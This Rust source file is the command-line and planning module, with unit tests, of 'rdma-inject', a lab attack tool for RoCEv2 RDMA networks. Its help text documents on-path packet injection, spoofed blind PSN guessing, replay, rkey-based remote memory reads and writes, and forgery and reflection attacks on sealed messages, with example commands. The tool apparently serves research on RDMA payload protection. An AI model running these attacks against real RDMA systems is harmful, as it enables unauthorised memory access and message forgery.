//! The command line: three modes (on-path `--observe`, off-path `--blind`, `--replay`) and
//! their checks, turned into a [`Plan`] before any socket is opened.

use std::net::IpAddr;
use std::path::PathBuf;
use std::time::Duration;

use clap::Parser;
use rdma_cli::logging::LogFormat;
use roce::MacAddr;

use rdma_inject::forge::Injection;
use rdma_inject::mac::parse_mac;
use rdma_inject::plan::{LearnOptions, Plan, MAX_PAYLOAD};
use rdma_inject::sealed::{SealedAttack, OVERHEAD};

/// The most guesses one `--blind` run sends.
pub const MAX_GUESSES: u32 = 1_000_000;
/// The longest `--timeout`.
pub const MAX_TIMEOUT_SECS: u64 = 3600;

const ABOUT: &str = "Forge, guess and replay RoCEv2 RC packets on one interface (lab attack tool)";

const LONG_ABOUT: &str = "\
Forge, guess and replay RoCEv2 RC packets on one interface: the attacks that show what an
RDMA data path without payload protection accepts. Sends raw Ethernet frames (correct IPv4
checksum and ICRC, built by the roce encoder) only out of the interface it is given, and
observes that interface in both directions. Needs root (CAP_NET_RAW).

Modes:

  --observe IFACE      On-path. Learn, from live traffic on IFACE, the RC request flow to
                       --dst (default: the first request flow seen): the responder's QPN, the
                       requester's last request PSN (only SEND and RDMA WRITE packets count;
                       ACKs in that direction belong to the other QP's sequence), UDP source
                       port, MACs, addresses, and the rkey and address of any RDMA WRITE.
                       When the flow has been quiet for --quiet-ms after at least
                       --min-packets requests, inject ONE packet at the next PSN:
                       --send TEXT (RC SEND Only) or --write-imm TEXT (RC RDMA WRITE Only
                       with Immediate at the observed rkey and address; --imm defaults to the
                       length, as secure-server reads it). With neither, only learn (and
                       --save the flow's requests). Gives up after --timeout seconds.
      rdma-inject --observe veth-b --dst 10.77.0.1 --send FORGED-BY-ATTACKER

  --blind              Off-path. --guesses SEND Only packets to --qpn with uniformly random
                       24-bit PSNs, from the spoofed --src to --dst (--dst-mac: the
                       responder's or next hop's MAC; --src-mac defaults to --iface's own).
                       Prints how many were sent, how long it took and the rate.
      rdma-inject --blind --iface veth-b --src 10.77.0.2 --dst 10.77.0.1 \\
                  --dst-mac 02:00:00:00:00:01 --qpn 17 --guesses 10000

  --replay FILE.pcap   Re-send the RoCEv2 request packets of a capture (ACKs and responses
                       are skipped) out of --iface, verbatim. With --observe IFACE as well,
                       wait for the live flow to go quiet and renumber the captured requests
                       to the responder to follow its next PSN (with the live flow's QPN,
                       addresses and port): a captured message delivered again.
      rdma-inject --replay msg.pcap --iface veth-b
      rdma-inject --replay msg.pcap --observe veth-b --dst 10.77.0.1

  --observe IFACE --read | --write TEXT | --write-imm TEXT --rkey N
                       Memory access (ReDMArk). At the learned flow's next PSN, an RC RDMA
                       READ Request of --read-len bytes (default address 0), a plain RC RDMA
                       WRITE Only, or a WRITE WITH IMMEDIATE, with --rkey/--addr instead of
                       the observed WRITE's (e.g. a previous session's saved rkey). Then
                       watch --watch-ms for the responder's answers to that PSN and report
                       them: READ response packets, ACKs, NAKs with their syndrome.
      rdma-inject --observe veth-b --dst 10.77.0.1 --read
      rdma-inject --observe veth-b --dst 10.77.0.1 --write-imm X --rkey 0x1234

Output: one line per injected packet and a summary on stdout; with --json one object per
injected packet ({\"injected\": {\"opcode\", \"dst_qpn\", \"psn\", \"bytes\", \"payload_len\"}})
and a final {\"summary\": {...}}. Progress goes to stderr.

Sealed messages (secure-rdma's payload protection: a 16-byte clear header with version 2,
operation, epoch, lane, sequence and length, then ciphertext and a 16-byte tag). With
--observe, the flow's sealed header is learned from every SEND and WRITE with immediate
(the immediate is the sealed length), and one message goes in at the next PSN:

  --sealed-forge       The last observed header with the next sequence (--sealed-seq N to
                       choose it), a random ciphertext as long as the observed message's
                       (--sealed-text TEXT: those bytes instead), the length field matching,
                       and a random 16-byte tag: every check of the receiver passes but the
                       tag. Waits for a sealed message unless --sealed-seq is given.
      rdma-inject --observe veth-b --dst 10.77.0.1 --sealed-forge
  --sealed-renumber FILE.pcap
                       The capture's first sealed message (SEND Only or WRITE Only with
                       Immediate, e.g. saved with --save), its header's sequence rewritten to
                       the live flow's next sealed sequence (or --sealed-seq N) and its PSN
                       to the flow's next: an old message (another epoch, another session)
                       that only the keys can refuse.
      rdma-inject --observe veth-b --dst 10.77.0.1 --sealed-renumber old.pcap
  --reflect            Reflection: wait until --dst sends a sealed SEND (in the other
                       direction) whose sequence is the one --dst expects next from the flow,
                       then push it back unchanged into --dst's QP at the flow's next PSN
                       (observe the responder's link, e.g. veth-a to reach 10.77.0.2).
      rdma-inject --observe veth-a --dst 10.77.0.2 --reflect

Exit codes: 0 done, 1 error, 2 usage, 3 no CAP_NET_RAW, 4 nothing learned before --timeout.";

/// The command line; see `rdma-inject --help`.
#[derive(Debug, Clone, Parser)]
#[command(name = "rdma-inject", version, about = ABOUT, long_about = LONG_ABOUT)]
pub struct Cli {
    /// On-path: learn the flow on IFACE and inject at its next PSN
    #[arg(long, value_name = "IFACE", conflicts_with = "blind")]
    pub observe: Option<String>,
    /// Off-path: random-PSN SEND guesses at --qpn
    #[arg(long, conflicts_with = "replay")]
    pub blind: bool,
    /// Re-send the request packets of a pcap/pcapng capture
    #[arg(long, value_name = "FILE.pcap")]
    pub replay: Option<PathBuf>,
    /// Interface to send on (--blind, --replay)
    #[arg(long, value_name = "IFACE")]
    pub iface: Option<String>,
    /// The responder (victim) address: the flow to learn (--observe) or the target (--blind)
    #[arg(long, value_name = "ADDR")]
    pub dst: Option<IpAddr>,
    /// The spoofed requester address (--blind)
    #[arg(long, value_name = "ADDR")]
    pub src: Option<IpAddr>,
    /// Frame destination MAC (--blind)
    #[arg(long, value_name = "MAC", value_parser = mac_arg)]
    pub dst_mac: Option<MacAddr>,
    /// Frame source MAC (--blind) [default: --iface's own]
    #[arg(long, value_name = "MAC", value_parser = mac_arg)]
    pub src_mac: Option<MacAddr>,
    /// Destination QP number, decimal or 0x-hex (--blind)
    #[arg(long, value_name = "N", value_parser = qpn_arg)]
    pub qpn: Option<u32>,
    /// How many random PSNs to try (--blind; 1 to 1000000)
    #[arg(long, value_name = "K",
          value_parser = clap::value_parser!(u32).range(1..=i64::from(MAX_GUESSES)))]
    pub guesses: Option<u32>,
    /// Seed of the PSN guesses, for a reproducible run (--blind) [default: random, printed]
    #[arg(long, value_name = "N")]
    pub seed: Option<u64>,
    /// UDP source port of the guesses (--blind; responders do not check it) [default: 49152]
    #[arg(long, value_name = "PORT")]
    pub src_port: Option<u16>,
    /// Inject an RC SEND Only carrying TEXT (--observe; --blind: the guesses' payload)
    #[arg(long, value_name = "TEXT", conflicts_with_all = ["write_imm", "replay"])]
    pub send: Option<String>,
    /// Inject an RC SEND Only carrying these bytes, given as hex ("000200…"): a binary record
    /// such as a forged acknowledgement (--observe)
    #[arg(long, value_name = "HEX", value_parser = hex_arg,
          conflicts_with_all = ["send", "write_imm", "replay", "blind"])]
    pub send_hex: Option<HexBytes>,
    /// Inject an RC RDMA WRITE Only with Immediate of TEXT at the observed rkey and address
    #[arg(long, value_name = "TEXT", conflicts_with_all = ["blind", "replay"])]
    pub write_imm: Option<String>,
    /// The immediate of --write-imm, decimal or 0x-hex [default: TEXT's length]
    #[arg(long, value_name = "N", value_parser = u32_arg, requires = "write_imm")]
    pub imm: Option<u32>,
    /// Inject once the flow has been quiet this long (--observe)
    #[arg(long, value_name = "MS", default_value_t = 300,
          value_parser = clap::value_parser!(u64).range(1..=60_000))]
    pub quiet_ms: u64,
    /// Requests of the flow to see before injecting (--observe)
    #[arg(long, value_name = "N", default_value_t = 1,
          value_parser = clap::value_parser!(u64).range(1..=1_000_000))]
    pub min_packets: u64,
    /// Give up after this many seconds (every mode)
    #[arg(long, value_name = "SECS", default_value_t = 60,
          value_parser = clap::value_parser!(u64).range(1..=MAX_TIMEOUT_SECS))]
    pub timeout: u64,
    /// Write the learned flow's request packets to this pcap file (--observe)
    #[arg(long, value_name = "FILE.pcap", requires = "observe")]
    pub save: Option<PathBuf>,
    /// Inject a sealed forgery: the observed header with the next sequence, a random
    /// ciphertext and tag (--observe; see "Sealed messages")
    #[arg(long, requires_all = ["observe"],
          conflicts_with_all = ["send", "send_hex", "write_imm", "replay", "blind", "sealed_renumber", "reflect", "save"])]
    pub sealed_forge: bool,
    /// The forgery's ciphertext bytes, as text (--sealed-forge) [default: random, the observed
    /// message's length]
    #[arg(long, value_name = "TEXT", requires = "sealed_forge")]
    pub sealed_text: Option<String>,
    /// Re-send the capture's first sealed message with its sequence renumbered to the live
    /// flow's next (--observe)
    #[arg(long, value_name = "FILE.pcap", requires = "observe",
          conflicts_with_all = ["send", "send_hex", "write_imm", "replay", "blind", "reflect", "save"])]
    pub sealed_renumber: Option<PathBuf>,
    /// Push --dst's own sealed SEND back into its QP when its sequence is the one --dst
    /// expects next (--observe, --dst)
    #[arg(long, requires_all = ["observe", "dst"],
          conflicts_with_all = ["send", "send_hex", "write_imm", "replay", "blind", "save"])]
    pub reflect: bool,
    /// The sequence to put in the injected header instead of the observed one plus one
    /// (--sealed-forge, --sealed-renumber; --reflect: the sequence of the message to reflect)
    #[arg(long, value_name = "N")]
    pub sealed_seq: Option<u64>,
    /// One JSON object per injected packet and a summary object on stdout
    #[arg(long)]
    pub json: bool,
    /// Log format on stderr: text or json (RUST_LOG sets the level, default info)
    #[arg(long, value_name = "FORMAT", value_enum, default_value_t)]
    pub log_format: LogFormat,
    /// Memory-access attacks (--read, --write, --rkey, --addr, --watch-ms)
    #[command(flatten)]
    pub memory: crate::memory_cli::MemoryArgs,
}

fn mac_arg(s: &str) -> Result<MacAddr, String> {
    parse_mac(s).map_err(|e| e.to_string())
}

pub(crate) fn u32_arg(s: &str) -> Result<u32, String> {
    let t = s.trim();
    let parsed = match t.strip_prefix("0x").or_else(|| t.strip_prefix("0X")) {
        Some(hex) => u32::from_str_radix(hex, 16),
        None => t.parse(),
    };
    parsed.map_err(|_| format!("{s:?} is not a 32-bit number (decimal or 0x-hex)"))
}

/// Bytes given on the command line as hex (`--send-hex`). A newtype because clap reads a bare
/// `Vec<u8>` as many arguments of one byte each.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct HexBytes(pub Vec<u8>);

/// Hex digits, two per byte; spaces and a 0x prefix allowed.
fn hex_arg(s: &str) -> Result<HexBytes, String> {
    let digits: String = s
        .trim()
        .trim_start_matches("0x")
        .split_whitespace()
        .collect();
    if digits.is_empty() || !digits.len().is_multiple_of(2) {
        return Err(format!(
            "{s:?} is not whole bytes of hex (two digits per byte)"
        ));
    }
    (0..digits.len())
        .step_by(2)
        .map(|i| {
            digits
                .get(i..i + 2)
                .and_then(|pair| u8::from_str_radix(pair, 16).ok())
                .ok_or_else(|| format!("{s:?} is not hex (at digit {})", i + 1))
        })
        .collect::<Result<_, _>>()
        .map(HexBytes)
}

fn qpn_arg(s: &str) -> Result<u32, String> {
    let n = u32_arg(s).map_err(|_| format!("{s:?} is not a QP number (decimal or 0x-hex)"))?;
    if n > 0xff_ffff {
        return Err(format!(
            "QP number {n:#x} does not fit 24 bits (at most 0xffffff)"
        ));
    }
    Ok(n)
}

/// A command line that parses but asks for something impossible.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum CliError {
    /// No mode given.
    #[error("choose a mode: --observe IFACE, --blind or --replay FILE.pcap (see --help)")]
    NoMode,
    /// `--sealed-seq` without a sealed mode.
    #[error("--sealed-seq is for --sealed-forge, --sealed-renumber and --reflect")]
    StraySealedSeq,
    /// `--blind` without one of the values it needs.
    #[error("--blind needs --iface, --src, --dst, --dst-mac, --qpn and --guesses: {0} is missing")]
    BlindMissing(&'static str),
    /// `--replay` with nowhere to send.
    #[error("--replay needs --iface IFACE (or --observe IFACE, to renumber into the live flow)")]
    ReplayNoIface,
    /// Two different interfaces.
    #[error(
        "--iface {iface} and --observe {observe} differ: rdma-inject sends only on the \
         interface it observes"
    )]
    TwoInterfaces {
        /// `--iface`.
        iface: String,
        /// `--observe`.
        observe: String,
    },
    /// A payload too long for one packet.
    #[error("{flag} is {len} bytes; one packet carries at most {MAX_PAYLOAD}")]
    PayloadTooLong {
        /// The flag.
        flag: &'static str,
        /// Its length.
        len: usize,
    },
    /// A `--blind` flag without `--blind`.
    #[error("{0} is for --blind only")]
    BlindOnly(&'static str),
    /// `--rkey` or `--addr` with nothing to aim.
    #[error("--rkey and --addr aim --read, --write or --write-imm: give one of them")]
    StrayTarget,
    /// `--iface` given where it means nothing.
    #[error("--iface is for --blind and --replay; --observe names its interface itself")]
    StrayIface,
}

impl Cli {
    /// Checks what clap cannot and builds the [`Plan`].
    ///
    pub fn plan(&self) -> Result<Plan, CliError> {
        let timeout = Duration::from_secs(self.timeout);
        for (flag, len) in [
            (
                "--sealed-text",
                self.sealed_text.as_ref().map(|t| t.len() + OVERHEAD),
            ),
            ("--send", self.send.as_ref().map(String::len)),
            ("--send-hex", self.send_hex.as_ref().map(|b| b.0.len())),
            ("--write-imm", self.write_imm.as_ref().map(String::len)),
            ("--write", self.memory.write.as_ref().map(String::len)),
        ] {
            if let Some(len) = len.filter(|&l| l > MAX_PAYLOAD) {
                return Err(CliError::PayloadTooLong { flag, len });
            }
        }
        let learn = |iface: &str| LearnOptions {
            iface: iface.to_owned(),
            dst: self.dst,
            quiet: Duration::from_millis(self.quiet_ms),
            min_packets: self.min_packets,
            timeout,
        };
        if !self.blind {
            let blind_only = [
                ("--src", self.src.is_some()),
                ("--dst-mac", self.dst_mac.is_some()),
                ("--src-mac", self.src_mac.is_some()),
                ("--qpn", self.qpn.is_some()),
                ("--guesses", self.guesses.is_some()),
                ("--seed", self.seed.is_some()),
                ("--src-port", self.src_port.is_some()),
            ];
            if let Some((flag, _)) = blind_only.iter().find(|(_, set)| *set) {
                return Err(CliError::BlindOnly(flag));
            }
        }
        if self.blind {
            let iface = self
                .iface
                .clone()
                .ok_or(CliError::BlindMissing("--iface"))?;
            return Ok(Plan::Blind {
                iface,
                src_mac: self.src_mac,
                dst_mac: self.dst_mac.ok_or(CliError::BlindMissing("--dst-mac"))?,
                src: self.src.ok_or(CliError::BlindMissing("--src"))?,
                dst: self.dst.ok_or(CliError::BlindMissing("--dst"))?,
                src_port: self.src_port.unwrap_or(49152),
                qpn: self.qpn.ok_or(CliError::BlindMissing("--qpn"))?,
                guesses: self.guesses.ok_or(CliError::BlindMissing("--guesses"))?,
                seed: self.seed,
                payload: self
                    .send
                    .clone()
                    .unwrap_or_else(|| "BLIND-GUESS".to_owned())
                    .into_bytes(),
                timeout,
            });
        }
        if let Some(file) = &self.replay {
            let (iface, live) = match (&self.iface, &self.observe) {
                (None, None) => return Err(CliError::ReplayNoIface),
                (Some(i), None) => (i.clone(), None),
                (Some(i), Some(o)) if i != o => {
                    return Err(CliError::TwoInterfaces {
                        iface: i.clone(),
                        observe: o.clone(),
                    })
                }
                (_, Some(o)) => (o.clone(), Some(learn(o))),
            };
            return Ok(Plan::Replay {
                file: file.clone(),
                iface,
                live,
            });
        }
        let Some(observe) = &self.observe else {
            return Err(CliError::NoMode);
        };
        match &self.iface {
            Some(i) if i != observe => {
                return Err(CliError::TwoInterfaces {
                    iface: i.clone(),
                    observe: observe.clone(),
                })
            }
            Some(_) => return Err(CliError::StrayIface),
            None => {}
        }
        if let Some(access) = self.memory.access(self.write_imm.as_deref(), self.imm) {
            return Ok(Plan::Memory {
                learn: learn(observe),
                access,
                watch: self.memory.watch(),
            });
        }
        if self.memory.rkey.is_some() || self.memory.addr.is_some() {
            return Err(CliError::StrayTarget);
        }
        let injection = match (&self.send, &self.send_hex, &self.write_imm) {
            (Some(t), _, _) => Some(Injection::Send(t.clone().into_bytes())),
            (None, Some(bytes), _) => Some(Injection::Send(bytes.0.clone())),
            (None, None, Some(t)) => Some(Injection::WriteImm {
                data: t.clone().into_bytes(),
                imm: self.imm,
            }),
            (None, None, None) => None,
        };
        let sealed = match (self.sealed_forge, &self.sealed_renumber, self.reflect) {
            (true, _, _) => Some(SealedAttack::Forge {
                text: self.sealed_text.clone().map(String::into_bytes),
            }),
            (false, Some(file), _) => Some(SealedAttack::Renumber { file: file.clone() }),
            (false, None, true) => Some(SealedAttack::Reflect),
            (false, None, false) => None,
        };
        if let Some(attack) = sealed {
            return Ok(Plan::Sealed {
                learn: learn(observe),
                attack,
                seq: self.sealed_seq,
            });
        }
        if self.sealed_seq.is_some() {
            return Err(CliError::StraySealedSeq);
        }
        Ok(Plan::Observe {
            learn: learn(observe),
            injection,
            save: self.save.clone(),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parse(args: &[&str]) -> Result<Cli, clap::Error> {
        Cli::try_parse_from(std::iter::once("rdma-inject").chain(args.iter().copied()))
    }

    fn usage_error(args: &[&str]) -> String {
        parse(args)
            .expect_err("should be a usage error")
            .to_string()
    }

    const BLIND: &[&str] = &[
        "--blind",
        "--iface",
        "veth-b",
        "--src",
        "10.77.0.2",
        "--dst",
        "10.77.0.1",
        "--dst-mac",
        "02:00:00:00:00:01",
        "--qpn",
        "0x11",
        "--guesses",
        "10000",
    ];

    #[test]
    fn send_hex_injects_those_bytes_and_refuses_what_is_not_hex() {
        let cli = parse(&[
            "--observe",
            "veth-a",
            "--send-hex",
            "00 0200000000000000 40420f00",
        ])
        .unwrap();
        let Plan::Observe { injection, .. } = cli.plan().unwrap() else {
            panic!("not an observe plan")
        };
        let mut want = vec![0u8, 2, 0, 0, 0, 0, 0, 0, 0];
        want.extend_from_slice(&1_000_000u32.to_le_bytes());
        assert_eq!(injection, Some(Injection::Send(want)));
        for bad in ["abc", "zz", ""] {
            let err = parse(&["--observe", "veth-a", "--send-hex", bad]).unwrap_err();
            assert!(err.to_string().contains("hex"), "{bad}: {err}");
        }
        assert!(parse(&["--observe", "veth-a", "--send", "x", "--send-hex", "00"]).is_err());
    }

    #[test]
    fn observe_plans() {
        let p = parse(&[
            "--observe",
            "veth-b",
            "--dst",
            "10.77.0.1",
            "--write-imm",
            "x",
        ])
        .unwrap()
        .plan()
        .unwrap();
        let Plan::Observe {
            learn, injection, ..
        } = p
        else {
            panic!("{p:?}")
        };
        assert_eq!(learn.iface, "veth-b");
        assert_eq!(learn.dst, Some([10, 77, 0, 1].into()));
        assert_eq!(
            (learn.quiet, learn.min_packets, learn.timeout),
            (Duration::from_millis(300), 1, Duration::from_secs(60))
        );
        assert_eq!(
            injection,
            Some(Injection::WriteImm {
                data: b"x".to_vec(),
                imm: None
            })
        );
        // Learn only.
        let p = parse(&["--observe", "veth-b", "--save", "f.pcap"])
            .unwrap()
            .plan()
            .unwrap();
        assert!(matches!(
            p,
            Plan::Observe {
                injection: None,
                save: Some(_),
                ..
            }
        ));
    }

    #[test]
    fn blind_plans_and_its_values_are_checked() {
        let p = parse(BLIND).unwrap().plan().unwrap();
        let Plan::Blind {
            qpn,
            guesses,
            dst_mac,
            payload,
            ..
        } = p
        else {
            panic!("{p:?}")
        };
        assert_eq!((qpn, guesses), (0x11, 10_000));
        assert_eq!(dst_mac.0[5], 1);
        assert_eq!(payload, b"BLIND-GUESS");

        let with = |flag: &str, value: &str| {
            let mut args: Vec<&str> = BLIND.to_vec();
            let i = args.iter().position(|a| *a == flag).unwrap();
            args[i + 1] = value;
            usage_error(&args)
        };
        let e = with("--guesses", "0");
        assert!(e.contains("0 is not in 1..=1000000"), "{e}");
        let e = with("--guesses", "1000001");
        assert!(e.contains("1000001 is not in 1..=1000000"), "{e}");
        let e = with("--dst-mac", "02:00:00:00:00");
        assert!(
            e.contains("bad MAC address \"02:00:00:00:00\": fewer than six bytes"),
            "{e}"
        );
        let e = with("--qpn", "0x1000000");
        assert!(e.contains("does not fit 24 bits"), "{e}");
        let e = with("--qpn", "seventeen");
        assert!(e.contains("is not a QP number"), "{e}");
        let e = with("--src", "10.77.0.300");
        assert!(e.contains("--src <ADDR>"), "{e}");

        // Missing values are named.
        let mut args: Vec<&str> = BLIND.to_vec();
        args.truncate(args.len() - 2);
        let e = parse(&args).unwrap().plan().unwrap_err();
        assert_eq!(e, CliError::BlindMissing("--guesses"));
        assert!(e.to_string().contains("--guesses is missing"));
    }

    #[test]
    fn modes_that_do_not_combine_are_refused() {
        let e = usage_error(&["--blind", "--observe", "veth-b"]);
        assert!(e.contains("cannot be used with"), "{e}");
        let e = usage_error(&["--observe", "veth-b", "--send", "a", "--write-imm", "b"]);
        assert!(e.contains("cannot be used with"), "{e}");
        let e = usage_error(&["--replay", "f.pcap", "--iface", "x", "--send", "a"]);
        assert!(e.contains("cannot be used with"), "{e}");
        // A memory access and a sealed mode are two different packets: neither may win silently.
        for sealed in [
            &["--sealed-forge"][..],
            &["--sealed-renumber", "f.pcap"],
            &["--reflect"],
        ] {
            for access in [&["--read"][..], &["--write", "x"]] {
                let mut args = vec!["--observe", "veth-b", "--dst", "10.77.0.1"];
                args.extend_from_slice(access);
                args.extend_from_slice(sealed);
                let e = usage_error(&args);
                assert!(e.contains("cannot be used with"), "{args:?}: {e}");
            }
        }
        // Blind-only flags need --blind.
        let e = parse(&["--observe", "veth-b", "--qpn", "17"])
            .unwrap()
            .plan()
            .unwrap_err();
        assert_eq!(e.to_string(), "--qpn is for --blind only");
        let e = usage_error(&["--observe", "veth-b", "--imm", "5"]);
        assert!(e.contains("--write-imm"), "{e}");
        assert_eq!(parse(&[]).unwrap().plan(), Err(CliError::NoMode));
        assert_eq!(
            parse(&["--replay", "f.pcap"]).unwrap().plan(),
            Err(CliError::ReplayNoIface)
        );
        let e = parse(&["--replay", "f.pcap", "--iface", "a", "--observe", "b"])
            .unwrap()
            .plan()
            .unwrap_err();
        assert!(e
            .to_string()
            .contains("sends only on the interface it observes"));
        let long = "x".repeat(MAX_PAYLOAD + 1);
        let e = parse(&["--observe", "veth-b", "--send", &long])
            .unwrap()
            .plan()
            .unwrap_err();
        assert!(matches!(e, CliError::PayloadTooLong { flag: "--send", .. }));
    }

    #[test]
    fn replay_plans_verbatim_or_renumbered() {
        let p = parse(&["--replay", "f.pcap", "--iface", "veth-b"])
            .unwrap()
            .plan()
            .unwrap();
        assert!(matches!(p, Plan::Replay { live: None, .. }));
        let p = parse(&[
            "--replay",
            "f.pcap",
            "--observe",
            "veth-b",
            "--dst",
            "10.77.0.1",
        ])
        .unwrap()
        .plan()
        .unwrap();
        let Plan::Replay { iface, live, .. } = p else {
            panic!()
        };
        assert_eq!(iface, "veth-b");
        assert_eq!(live.unwrap().dst, Some([10, 77, 0, 1].into()));
    }

    #[test]
    fn sealed_modes_plan_and_refuse_what_does_not_combine() {
        let plan = |args: &[&str]| parse(args).unwrap().plan().unwrap();
        let p = plan(&[
            "--observe",
            "veth-b",
            "--dst",
            "10.77.0.1",
            "--sealed-forge",
        ]);
        let Plan::Sealed { learn, attack, seq } = p else {
            panic!("{p:?}")
        };
        assert_eq!(learn.dst, Some([10, 77, 0, 1].into()));
        assert_eq!((attack, seq), (SealedAttack::Forge { text: None }, None));
        let p = plan(&[
            "--observe",
            "veth-b",
            "--sealed-forge",
            "--sealed-text",
            "FORGED",
            "--sealed-seq",
            "7",
        ]);
        assert!(matches!(
            p,
            Plan::Sealed { attack: SealedAttack::Forge { text: Some(ref t) }, seq: Some(7), .. } if t == b"FORGED"
        ));
        let p = plan(&["--observe", "veth-b", "--sealed-renumber", "old.pcap"]);
        assert!(matches!(
            p,
            Plan::Sealed { attack: SealedAttack::Renumber { ref file }, seq: None, .. } if file.to_str() == Some("old.pcap")
        ));
        let p = plan(&["--observe", "veth-a", "--dst", "10.77.0.2", "--reflect"]);
        assert!(matches!(
            p,
            Plan::Sealed {
                attack: SealedAttack::Reflect,
                ..
            }
        ));
        // Reflection needs to know the responder; the modes exclude each other and the
        // plain injections.
        assert!(usage_error(&["--observe", "veth-a", "--reflect"]).contains("--dst"));
        for bad in [
            &["--observe", "veth-b", "--sealed-forge", "--send", "x"][..],
            &[
                "--observe",
                "veth-b",
                "--sealed-forge",
                "--reflect",
                "--dst",
                "10.77.0.2",
            ],
            &[
                "--observe",
                "veth-b",
                "--sealed-renumber",
                "f",
                "--sealed-forge",
            ],
            &["--sealed-forge"],
            &["--observe", "veth-b", "--sealed-text", "x"],
        ] {
            assert!(parse(bad).is_err(), "{bad:?}");
        }
        let e = parse(&["--observe", "veth-b", "--sealed-seq", "3"])
            .unwrap()
            .plan()
            .unwrap_err();
        assert_eq!(e, CliError::StraySealedSeq);
    }

    #[test]
    fn help_explains_every_mode_with_an_example() {
        let mut cmd = <Cli as clap::CommandFactory>::command();
        let help = cmd.render_long_help().to_string();
        for needle in [
            "rdma-inject --observe veth-b --dst 10.77.0.1 --send",
            "rdma-inject --blind --iface veth-b",
            "rdma-inject --replay msg.pcap --iface veth-b",
            "rdma-inject --observe veth-b --dst 10.77.0.1 --sealed-forge",
            "rdma-inject --observe veth-b --dst 10.77.0.1 --sealed-renumber old.pcap",
            "rdma-inject --observe veth-a --dst 10.77.0.2 --reflect",
            "CAP_NET_RAW",
        ] {
            assert!(help.contains(needle), "{needle}: {help}");
        }
        cmd.debug_assert();
    }
}
